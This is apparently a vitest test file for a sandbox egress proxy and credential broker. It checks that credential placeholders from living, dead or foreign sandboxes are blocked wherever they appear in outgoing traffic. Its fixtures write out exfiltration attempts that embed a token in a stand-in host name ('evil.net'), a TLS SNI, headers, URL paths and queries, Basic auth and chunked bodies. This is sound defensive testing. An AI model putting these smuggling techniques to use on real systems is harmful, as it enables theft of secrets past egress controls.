// Placeholders where the proxy can read what a sandbox says: its own, dead ones, and those of others are stopped in all places.
import { connect as connectTls } from 'node:tls'
import { describe, expect, test } from 'vitest'
import { createBroker } from '../../src/credentials/broker.ts'
import { newInstanceId } from '../../src/lib/ids.ts'
import type { CredentialViolation, Injection } from '../../src/schema/credentials.ts'
import { findInitBinary } from '../../src/sandbox/init-binary.ts'
import { testDoor, upstream } from '../support/egress-door.ts'
import { eventually } from '../support/eventually.ts'

const injection: Injection = {
  use: 'api',
  inject: 'egress',
  as: 'API_TOKEN',
  hosts: [{ host: 'api.example.com', port: 443, caFile: null }],
  headers: ['authorization'],
  query: false,
  body: false,
  websocket: false,
  placeholder: { prefix: 'ph-', length: 40 },
}

const kinds = ['living', 'dead', 'of another'] as const

/** A sandbox's door, and a placeholder: its own, one of its server's last process, or one of another server. */
async function sandbox(kind: (typeof kinds)[number]) {
  let seen = ''
  const server = await upstream(
    (socket) => void socket.on('data', (chunk: Buffer) => (seen += chunk.toString('latin1'))),
  )
  const { port } = server
  const violations: CredentialViolation[] = []
  const broker = createBroker({ sources: {}, environment: {}, uid: 0, initPath: await findInitBinary() })
  const make = (name: string) =>
    broker.forSandbox({
      server: name,
      instance: newInstanceId(),
      injections: [injection],
      violated: (violation) => violations.push(violation),
    })
  const [own, last, other] = [make('it'), make('it'), make('other')]
  last[Symbol.dispose]()
  const { environment } = { living: own, dead: last, 'of another': other }[kind]
  const grants = [
    { port, tls: false },
    { host: '*.wild.example.com', port, tls: false },
    { host: 'secure.com', port, tls: true },
  ]
  const door = await testDoor({
    grants,
    names: { 'allowed.com': ['127.0.0.1'], 'secure.com': ['127.0.0.1'] },
    screen: own.screen,
  })
  return {
    door,
    port,
    violations,
    placeholder: environment['API_TOKEN'] ?? '',
    seen: () => seen,
    async [Symbol.asyncDispose]() {
      await door[Symbol.asyncDispose]()
      await server[Symbol.asyncDispose]()
      for (const it of [own, other]) it[Symbol.dispose]()
    },
  }
}

type Say = (placeholder: string, port: number) => string
const request =
  (line: (port: number) => string, ...fields: readonly string[]): Say =>
  (placeholder, port) =>
    `SP1 proxy\n${[line(port), `Host: allowed.com:${port}`, ...fields, '', ''].join('\r\n')}`.replaceAll(
      'PH',
      placeholder,
    )
const get = (port: number): string => `GET http://allowed.com:${port}/ HTTP/1.1`
const post = (port: number): string => `POST http://allowed.com:${port}/ HTTP/1.1`

const places: readonly (readonly [string, Say])[] = [
  ['a name that is not listed', (ph, port) => `SP1 connect ${ph}.evil.net ${port}\n`],
  ['a name under a wildcard', (ph, port) => `SP1 connect ${ph}.wild.example.com ${port}\n`],
  ['a name in lower case', (ph, port) => `SP1 connect ${ph.toLowerCase()}.wild.example.com ${port}\n`],
  ['a name that is none', (ph) => `SP1 connect ${ph}..x 99999\n`],
  ['CONNECT', (ph, port) => `SP1 proxy\nCONNECT ${ph}.wild.example.com:${port} HTTP/1.1\r\n\r\n`],
  [
    'a header of CONNECT',
    (ph, port) =>
      `SP1 proxy\nCONNECT allowed.com:${port} HTTP/1.1\r\nProxy-Authorization: Bearer ${ph}\r\n\r\n`,
  ],
  [
    'the host of a URL',
    (ph, port) => `SP1 proxy\nGET http://${ph}.wild.example.com:${port}/ HTTP/1.1\r\n\r\n`,
  ],
  ['the path of a URL', request((port) => `GET http://allowed.com:${port}/PH HTTP/1.1`)],
  ['the query of a URL', request((port) => `GET http://allowed.com:${port}/?q=PH HTTP/1.1`)],
  ['a header', request(get, 'Authorization: Bearer PH')],
  ['the name of a header', request(get, 'PH: x')],
  ['a header that stays here', request(get, 'Proxy-Authorization: Bearer PH')],
  ['a header that the connection keeps', request(get, 'Connection: X-Mine', 'X-Mine: PH')],
  ['Basic', (ph, port) => request(get, `Authorization: Basic ${btoa(`user:${ph}`)}`)('', port)],
  ['a body', (ph, port) => `${request(post, 'Content-Length: 50')('', port)}{"a":"${ph}"}`],
  ['bytes of no protocol', (ph, port) => `SP1 connect allowed.com ${port}\n\x01\x02${ph}`],
  [
    'a request that nobody proxies',
    (ph, port) => `SP1 connect allowed.com ${port}\nGET /${ph} HTTP/1.1\r\nHost: allowed.com:${port}\r\n\r\n`,
  ],
]

describe.each(kinds)('a placeholder that is %s', (kind) => {
  test.each(places)('goes nowhere in %s', async (_, say) => {
    await using it = await sandbox(kind)
    await it.door.answers(say(it.placeholder, it.port))
    const told = await eventually(() => it.door.events.find(({ verdict }) => verdict !== 'connected'))
    expect(told).toMatchObject({ reason: 'placeholder-elsewhere' })
    expect(it.violations.map(({ reason }) => reason)).toEqual([
      kind === 'of another' ? 'other-sandbox' : 'other-host',
    ])
    const passed = it.seen()
    expect(passed).not.toContain(it.placeholder)
    expect(passed.toLowerCase()).not.toContain(it.placeholder.toLowerCase())
  })
})

test.each([
  ['a proxied body', request(post, 'Transfer-Encoding: chunked')],
  [
    'a body on a port of its own',
    (_: string, port: number) =>
      `SP1 connect allowed.com ${port}\nPOST / HTTP/1.1\r\nHost: allowed.com:${port}\r\nTransfer-Encoding: chunked\r\n\r\n`,
  ],
])('%s in chunks is cut with the one that completes a placeholder', async (_, say) => {
  await using it = await sandbox('of another')
  const socket = it.door.says(say('', it.port))
  for (const letter of `${it.placeholder}more`) socket.write(`1\r\n${letter}\r\n`)
  expect(await it.door.told('closed')).toMatchObject({ verdict: 'cut', reason: 'placeholder-elsewhere' })
  expect(it.violations).toMatchObject([{ credential: null, reason: 'other-sandbox' }])
  expect(it.seen().replaceAll(/\r\n|^1$/gm, '')).not.toContain(it.placeholder)
})

test('the name in a ClientHello that is one is told as one, and nothing is dialled', async () => {
  await using it = await sandbox('dead')
  const socket = it.door.says(`SP1 connect secure.com ${it.port}\n`)
  connectTls({ socket, servername: `${it.placeholder}.evil.net` }).on('error', () => undefined)
  expect(await it.door.told('refused')).toMatchObject({ reason: 'placeholder-elsewhere' })
  expect(it.violations).toMatchObject([{ credential: 'api', host: 'secure.com', reason: 'other-host' }])
  expect(it.seen()).toBe('')
})

test('a name that the sandbox only looked up is told, too', async () => {
  await using it = await sandbox('living')
  it.door.says(`SP1 notices\nname ${it.placeholder.toLowerCase()}.evil.net 1\nname other.net 1\n`)
  await eventually(() => it.door.events.length === 2)
  expect(it.door.events.map(({ reason }) => reason)).toEqual(['placeholder-elsewhere', 'name-not-listed'])
  expect(it.violations).toMatchObject([{ credential: 'api', reason: 'other-host' }])
})

test('inside a client’s own TLS nothing is seen, and the connection is its own', async () => {
  await using it = await sandbox('living')
  const socket = it.door.says(`SP1 connect secure.com ${it.port}\n`)
  const secured = connectTls({ socket, servername: 'secure.com' }).on('error', () => undefined)
  secured.write(it.placeholder)
  expect(await it.door.told('opened')).toMatchObject({ host: 'secure.com' })
  await eventually(() => it.seen().length > 100)
  expect(it.violations).toEqual([])
  socket.destroy()
})
